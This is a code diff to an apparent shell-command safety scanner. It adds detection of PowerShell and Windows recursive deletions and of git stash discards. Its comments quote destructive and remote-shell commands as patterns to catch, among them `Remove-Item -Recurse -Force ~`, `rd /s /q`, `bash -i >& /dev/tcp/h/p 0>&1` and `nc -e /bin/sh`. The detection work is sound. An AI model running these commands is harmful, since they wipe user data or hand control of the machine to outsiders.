@@ -3,6 +3,7 @@ import { type Invocation, runsStdin, SHELLS, unwrap } from './command.ts';
 import { checkCommand } from './command-checks.ts';
 import { defaultValueVariants } from './default-values.ts';
 import { checkExfiltration } from './exfiltration.ts';
+import { checkStashDiscard } from './families/git-stash-discard.ts';
 import { familyFinding } from './families/index.ts';
 import { programWords } from './families/interpreter.ts';
 import { checkForkBomb } from './families/system-forks.ts';
@@ -10,6 +11,7 @@ import { fedArgumentScripts, PipeReading, shellSubstitutions, substitutionFeeds,
 import { findExecShells } from './find-exec-shells.ts';
 import { globProgramReadings } from './glob-programs.ts';
 import { downloadRun, evaluatedDownload, lineDownload, powershellCode, unreadableCode } from './powershell.ts';
+import { powershellRemovalLines } from './powershell-removal.ts';
 import type { ProjectRun } from './project-scripts.ts';
 import { checkRemoteShells } from './remote-shells.ts';
 import { MAX_DEPTH, parseShell, type SimpleCommand } from './shell.ts';
@@ -18,6 +20,7 @@ import { SubshellFolders } from './subshell-folders.ts';
 import { substitutedScripts } from './substituted-scripts.ts';
 import { programIndex } from './syntax.ts';
 import type { Walk } from './walk-state.ts';
+import { windowsReading } from './windows-commands.ts';
 import { COMMAND_COST, charge } from './work-budget.ts';
 import { writtenSettings } from './written-settings.ts';
 
@@ -75,9 +78,14 @@ export function walkScript(src: string, w: Walk, depth: number): void {
     if (ps && 'unreadable' in ps) w.findings.push(unreadableCode(invocation!.program, ps.unreadable));
     else if (ps) {
       if (!scripts.length) walkScript(ps.code, w, depth + 1);
+      // `pwsh -c 'Remove-Item -Recurse -Force ~'`: the cmdlet as the rm it amounts to (powershell-removal.ts)
+      for (const line of powershellRemovalLines(ps.code, w.ctx.home, depth + 1)) walkScript(line, w, depth + 1);
       const url = evaluatedDownload(ps.code);
       if (url) fed.push([downloadRun(invocation!, url)]);
     }
+    // `cmd /c rd /s /q C:\Users\u`, `takeown /f C:\Windows /r`: Windows' commands as the POSIX ones they amount to (windows-commands.ts)
+    const win = invocation && windowsReading(invocation, w.ctx.home);
+    if (win) walkScript(win, w, depth + 1);
     if (!invocation && scripts.length) lineStages.push({ inv: lineStage(cmd), pipeline: cmd.pipeline, index: cmd.index });
     // what runs to produce the words (`echo "$(curl x)" | sh`) runs at this place in the pipeline
     const inner = cmd.words.some((x) => x.subs.length) ? cmd.words.flatMap((x) => x.subs).flatMap((s) => s.commands.flatMap((c) => runsOf.get(c) ?? [])) : [];
@@ -158,6 +166,9 @@ export function walkScript(src: string, w: Walk, depth: number): void {
   // `bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh h p`, `cat f | sh | nc h p`: a shell bound to a socket (remote-shells.ts)
   const remote = checkRemoteShells(script.commands, (c) => runsOf.get(c)?.[0] ?? null);
   if (remote) w.findings.push(remote);
+  // `git stash -u && git stash drop`: the work stashed, then dropped (families/git-stash-discard.ts)
+  const stashed = w.policy.families.gitHistory === 'off' ? null : checkStashDiscard(script.commands, (c) => runsOf.get(c)?.[0] ?? null);
+  if (stashed) w.findings.push(familyFinding('gitHistory', stashed, w.policy));
 }
 
 /**
